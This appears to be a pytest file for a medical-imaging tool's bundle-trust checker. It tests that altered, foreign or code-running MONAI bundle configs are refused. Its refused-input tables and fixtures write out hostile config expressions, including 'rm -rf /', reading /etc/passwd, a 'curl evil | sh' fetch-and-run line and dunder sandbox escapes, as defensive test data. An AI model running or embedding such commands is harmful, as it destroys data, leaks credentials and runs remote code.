"""Untrusted bundles: volseg's own bundles pass; changed, foreign or code-running bundles are refused."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest
import torch

from tests.conftest import REPO, TINY_RECIPE
from volseg.bundle import write_bundle_configs
from volseg.errors import UserError
from volseg.recipe import load_recipe, recipe_from_dict
from volseg.trust import MANIFEST, check_bundle, expression_problem, safe_torch_load, write_manifest


def _recipe(**model: object):
    raw = json.loads(json.dumps(TINY_RECIPE))
    raw["model"].update(model)
    return recipe_from_dict(raw)


@pytest.fixture()
def bundle(tmp_path: Path) -> Path:
    root = write_bundle_configs(_recipe(), tmp_path / "bundle")
    write_manifest(root)
    return root


def _edit_json(path: Path, edit) -> None:
    cfg = json.loads(path.read_text())
    edit(cfg)
    path.write_text(json.dumps(cfg, indent=4))


def _refused(root: Path) -> str:
    with pytest.raises(UserError) as info:
        check_bundle(root)
    message = str(info.value)
    assert "\n" not in message
    assert str(root) in message and "--trust-bundle" in message
    check_bundle(root, trust=True)  # the way out always works
    return message


# --------------------------------------------------------------------------------------------------------
# volseg's own bundles


@pytest.mark.parametrize("recipe_file", sorted((REPO / "configs").glob("*.yaml")), ids=lambda p: p.stem)
def test_shipped_recipes_pass(recipe_file: Path, tmp_path: Path) -> None:
    root = write_bundle_configs(load_recipe(recipe_file), tmp_path / "b")
    write_manifest(root)
    check_bundle(root)


@pytest.mark.parametrize(
    "model", ["basic_unet", "attention_unet", "unet_plusplus"], ids=lambda m: m
)  # unet_plusplus brings scripts/ and `$from scripts.nets import LastHeadView`
def test_every_network_and_scheduler_passes(model: str, tmp_path: Path) -> None:
    raw = json.loads(json.dumps(TINY_RECIPE))
    raw["model"] = {"name": model}
    raw["train"]["scheduler"] = {"name": "plateau"}  # brings `$lambda engine: engine.state.metrics[...]`
    raw["train"]["early_stopping"] = {"patience": 3}
    root = write_bundle_configs(recipe_from_dict(raw), tmp_path / "b")
    write_manifest(root)
    check_bundle(root)
    assert (root / "scripts").is_dir() == (model == "unet_plusplus")


def test_manifest_excludes_itself_and_bytecode(bundle: Path) -> None:
    files = json.loads((bundle / MANIFEST).read_text())["files"]
    assert MANIFEST not in files and "configs/inference.json" in files
    assert json.loads((bundle / MANIFEST).read_text())["volseg_version"]
    write_manifest(bundle)  # writing it again over itself changes nothing
    assert json.loads((bundle / MANIFEST).read_text())["files"] == files


def test_python_bytecode_cache_of_scripts_is_dropped(tmp_path: Path) -> None:
    root = write_bundle_configs(_recipe(name="unet_plusplus", args={}), tmp_path / "b")
    write_manifest(root)
    cache = root / "scripts" / "__pycache__"
    cache.mkdir()
    (cache / "nets.cpython-311.pyc").write_bytes(b"forged bytecode")
    check_bundle(root)
    assert not list(cache.iterdir())


@pytest.mark.parametrize(
    "expression",
    [
        "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
        "$@network_def.to(@device)",
        "$list(sorted(glob.glob(@dataset_dir + '/*.nii*')))",
        "$monai.handlers.from_engine(['loss'], first=True)",
        "$lambda engine: engine.state.metrics['val_mean_dice']",
        "$import glob",
        "$import os",
        "$import ignite",
        "$from scripts.nets import LastHeadView",
        "$numpy.uint8",
        "$[{'image': i} for i in @datalist]",
        "$[{k: os.path.join(@dataset_dir, v) for k, v in c.items()} for c in @train_cases]",
        "$@train#deterministic_transforms + @train#random_transforms",
        "$@train::trainer.run()",
        "$monai.utils.set_determinism(seed=0)",
        "$torch.cuda.is_available() and True",
        "$np.float32",
        "$import numpy as np",
        "$@network_def.eval()",
        "$torch.compile(@network_def)",
    ],
)
def test_allowed_expressions(expression: str) -> None:
    assert expression_problem(expression) is None


def test_imported_names_are_usable() -> None:
    assert expression_problem("$LastHeadView(@network)", ("$from scripts.nets import LastHeadView",)) is None
    assert "name 'LastHeadView'" in str(expression_problem("$LastHeadView(@network)"))


@pytest.mark.parametrize(
    ("expression", "reason"),
    [
        ("$os.system('rm -rf /')", "system"),
        ("$__import__('os')", "__import__"),
        ("$eval('1+1')", "eval"),
        ("$exec('x = 1')", "exec"),
        ("$open('/etc/passwd').read()", "open"),
        ("$getattr(torch, 'load')", "getattr"),
        ("$@network.__class__.__init__.__globals__", "__"),
        ("$torch.os.system('id')", "system"),
        ("$glob.os.getcwd()", "'os'"),
        ("$os.path.os.getcwd()", "'os'"),
        ("$os.getcwd()", "only os.path"),
        ("$torch.load('x.pt', weights_only=False)", "loads or runs other code"),
        ("$np.load('x.npy', allow_pickle=True)", "loads or runs other code"),
        ("$monai.bundle.run(config_file='x.json')", "loads or runs other code"),
        ("$monai.utils.optional_import('subprocess')", "optional_import"),
        ("$torch.hub.load('evil/repo', 'model')", "hub"),
        ("$import subprocess", "subprocess"),
        ("$from os import system", "os.system"),
        ("$import os; os.system('id')", "statements"),
        ("$[(lambda open: 0), open('f')]", "open"),
        ("$(x := 1)", "NamedExpr"),
        ("$print('hi')", "print"),
        ("$'{0.__class__}'.format(1)", "dunder"),
        ("$1 +", "not a Python expression"),
    ],
)
def test_refused_expressions(expression: str, reason: str) -> None:
    problem = expression_problem(expression)
    assert problem is not None and reason in problem


# --------------------------------------------------------------------------------------------------------
# Refusals


def test_changed_config_is_refused(bundle: Path) -> None:
    _edit_json(bundle / "configs" / "inference.json", lambda c: c.update(dataset_dir="/elsewhere"))
    message = _refused(bundle)
    assert "not written by volseg, or changed since: configs/inference.json differs" in message


def test_added_and_removed_files_are_refused(bundle: Path) -> None:
    (bundle / "configs" / "extra.json").write_text("{}")
    assert "configs/extra.json was added" in _refused(bundle)
    (bundle / "configs" / "extra.json").unlink()
    (bundle / "configs" / "train.json").unlink()
    assert "configs/train.json is missing" in _refused(bundle)


def test_bundle_without_manifest_is_refused(bundle: Path) -> None:
    (bundle / MANIFEST).unlink()
    assert f"not written by volseg (no {MANIFEST})" in _refused(bundle)


def test_damaged_manifest_is_refused(bundle: Path) -> None:
    (bundle / MANIFEST).write_text("{not json")
    assert "is damaged" in _refused(bundle)


def test_repository_bundles_without_manifest_are_refused(tmp_path: Path) -> None:
    src = REPO / "bundles" / "demo_liver_ct"
    if (src / MANIFEST).exists():
        pytest.skip("the repository's bundles carry a manifest")
    root = shutil.copytree(src, tmp_path / "demo")
    assert "not written by volseg" in _refused(root)


def test_os_system_expression_is_refused_even_with_a_matching_manifest(bundle: Path) -> None:
    _edit_json(bundle / "configs" / "inference.json", lambda c: c.update(hook="$os.system('curl evil | sh')"))
    write_manifest(bundle)  # anyone can write a manifest: the configs are still checked
    message = _refused(bundle)
    assert "configs/inference.json" in message and "os.system('curl evil | sh')" in message


@pytest.mark.parametrize(
    ("target", "reason"),
    [
        ("subprocess.Popen", "outside monai, torch and the bundle's scripts/"),
        ("os.system", "outside monai, torch"),
        ("builtins.eval", "outside monai, torch"),
        ("instantiate", "loads or runs other code"),  # monai.utils.module.instantiate: imports anything
        ("monai.bundle.run", "loads or runs other code"),
        ("torch.hub.load", "not allowed"),
        ("torch.load", "loads or runs other code"),
        ("NoSuchMonaiThing", "not a MONAI component"),
        ("$torch.nn.Identity", "not a class or function name"),
    ],
)
def test_foreign_targets_are_refused(bundle: Path, target: str, reason: str) -> None:
    _edit_json(bundle / "configs" / "inference.json", lambda c: c.update(hook={"_target_": target, "args": ["id"]}))
    write_manifest(bundle)
    message = _refused(bundle)
    assert "configs/inference.json" in message and target in message and reason in message


def test_monai_and_torch_targets_pass(bundle: Path) -> None:
    extra = [{"_target_": "torch.nn.Identity"}, {"_target_": "monai.transforms.Identityd", "keys": "image"}]
    _edit_json(bundle / "configs" / "inference.json", lambda c: c.update(extra=extra))
    write_manifest(bundle)
    check_bundle(bundle)


def test_unpickling_options_are_refused(bundle: Path) -> None:
    cache = {"_target_": "PersistentDataset", "data": [], "cache_dir": "/tmp/c", "weights_only": False}
    _edit_json(bundle / "configs" / "inference.json", lambda c: c.update(cache=cache))
    write_manifest(bundle)
    assert "weights_only: false lets pickled files run code" in _refused(bundle)


def test_macro_from_another_file_and_debug_mode_are_refused(bundle: Path) -> None:
    _edit_json(bundle / "configs" / "inference.json", lambda c: c.update(net="%/tmp/evil.json#network"))
    write_manifest(bundle)
    assert "pulls in another file" in _refused(bundle)
    _edit_json(
        bundle / "configs" / "inference.json", lambda c: c.update(net={"_target_": "Compose", "_mode_": "debug"})
    )
    write_manifest(bundle)
    assert "debug" in _refused(bundle)


def test_foreign_scripts_and_code_outside_scripts_are_refused(tmp_path: Path) -> None:
    root = write_bundle_configs(_recipe(name="unet_plusplus", args={}), tmp_path / "b")
    nets = root / "scripts" / "nets.py"
    nets.write_text(nets.read_text() + "\nimport os\nos.system('id')\n")
    write_manifest(root)
    assert "scripts/nets.py is not volseg's own bundle code" in _refused(root)

    root = write_bundle_configs(_recipe(), tmp_path / "c")
    (root / "torch.py").write_text("print('shadowing torch')\n")
    write_manifest(root)
    assert "torch.py is Python code outside scripts/" in _refused(root)


def test_unparsable_config_is_refused(bundle: Path) -> None:
    (bundle / "configs" / "inference.json").write_text("{broken")
    write_manifest(bundle)
    assert "configs/inference.json cannot be parsed" in _refused(bundle)


# --------------------------------------------------------------------------------------------------------
# Weights


def test_safe_torch_load(tmp_path: Path) -> None:
    good = tmp_path / "model.pt"
    torch.save({"w": torch.ones(2)}, good)
    assert torch.equal(safe_torch_load(good)["w"], torch.ones(2))

    garbage = tmp_path / "garbage.pt"
    garbage.write_bytes(b"not a checkpoint at all")
    with pytest.raises(UserError, match=r"cannot load weights \(") as info:
        safe_torch_load(garbage)
    assert "garbage.pt" in str(info.value) and "\n" not in str(info.value)

    pickled = tmp_path / "pickled.pt"
    torch.save({"obj": Path("x")}, pickled)  # an arbitrary class: weights_only refuses to unpickle it
    with pytest.raises(UserError, match="cannot load weights"):
        safe_torch_load(pickled)

    with pytest.raises(UserError, match="file not found"):
        safe_torch_load(tmp_path / "missing.pt")
